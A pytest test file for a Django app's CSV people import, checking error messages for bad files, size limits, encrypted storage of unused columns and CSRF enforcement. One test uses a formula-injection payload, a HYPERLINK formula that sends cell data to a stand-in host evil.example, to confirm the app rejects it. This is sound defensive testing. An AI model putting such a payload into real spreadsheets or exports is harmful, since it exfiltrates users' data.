"""CSV import: a clear message for any file we cannot use, and nothing written."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from committees.access import load_viewer
from members import services
from members.models import ImportBatch, Person

from .importing import confirm, people_csv, upload


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "photo.csv", "not a CSV text file"),
        (b"PK\x03\x04\x14\x00\x06\x00", "people.xlsx", "This is an Excel workbook"),
        ("name,phone\nJosé,2135550100\n".encode("latin-1"), "people.csv", "not in UTF-8"),
        (b"", "empty.csv", "The submitted file is empty."),
        (b"\n\n", "blank.csv", "The file is empty."),
        (b"color,size\nred,big\n", "shirts.csv", "We could not find the columns we need."),
        (b"name,nombre\nA,B\n", "twice.csv", "appears twice"),
        (b"name,phone\n", "header-only.csv", "no people"),
    ],
)
def test_garbage_upload_gets_a_clear_message(coordinator, client_for, content, name, message):
    client = client_for(coordinator)
    response = upload(client, content, name=name)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_a_50_megabyte_upload_is_refused_before_it_is_read(coordinator, client_for):
    client = client_for(coordinator)
    big = b"name,phone\n" + b"x" * (50 * 1024 * 1024)
    response = upload(client, big)
    assert response.status_code == 413
    assert "The file is too large. The limit is 5.0" in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_a_file_just_over_the_limit_is_refused_too(coordinator, client_for):
    """Without a Content-Length that gives it away, the size is checked on the file."""
    viewer = load_viewer(coordinator.person.user)
    from lib.csv_io import CsvFileError

    with pytest.raises(CsvFileError, match="too large"):
        services.import_preview(
            actor=viewer,
            upload=SimpleUploadedFile("big.csv", b"name\n" + b"a" * (5 * 1024 * 1024)),
        )


def test_formula_in_a_name_is_a_row_error_and_nothing_is_imported(coordinator, client_for):
    client = client_for(coordinator)
    upload(
        client,
        people_csv(
            [
                [
                    '=HYPERLINK("http://evil.example/?"&A1,"click")',
                    "(213) 555-0190",
                    "",
                    "",
                    "",
                    "",
                ],
                ["@SUM(1+1)", "(213) 555-0191", "", "", "", ""],
                ["Normal", "+1 (213) 555-0192", "", "", "", ""],
            ]
        ),
    )
    batch = ImportBatch.objects.get()
    assert batch.error_count == 2
    body = client.get(reverse("members:import_detail", args=[batch.pk])).content.decode()
    assert "which spreadsheets run as a formula" in body
    assert "<a href" not in body.split("Rows with problems")[1].split("</section>")[0]
    confirm(client, batch.pk)
    assert not Person.objects.filter(preferred_name="Normal").exists()


def test_unused_columns_are_named_in_the_preview_and_kept_encrypted(coordinator, client_for):
    client = client_for(coordinator)
    upload(client, "name,phone,Shirt size\nAnastasia Quintero,(213) 555-0193,M\n")
    batch = ImportBatch.objects.get()
    page = client.get(reverse("members:import_detail", args=[batch.pk])).content.decode()
    assert "Columns we did not use: Shirt size" in page
    from django.db import connection

    with connection.cursor() as cursor:
        cursor.execute("SELECT payload FROM members_importbatch")
        stored = cursor.fetchone()[0]
    assert "Shirt size" not in stored and "Anastasia Quintero" not in stored


def test_upload_still_needs_the_csrf_token(coordinator):
    """The upload view checks CSRF itself, after the size check (see import_upload)."""
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(coordinator.person.user)
    response = upload(client, "name,phone\nA,(213) 555-0100\n")
    assert response.status_code == 403
    assert not ImportBatch.objects.exists()
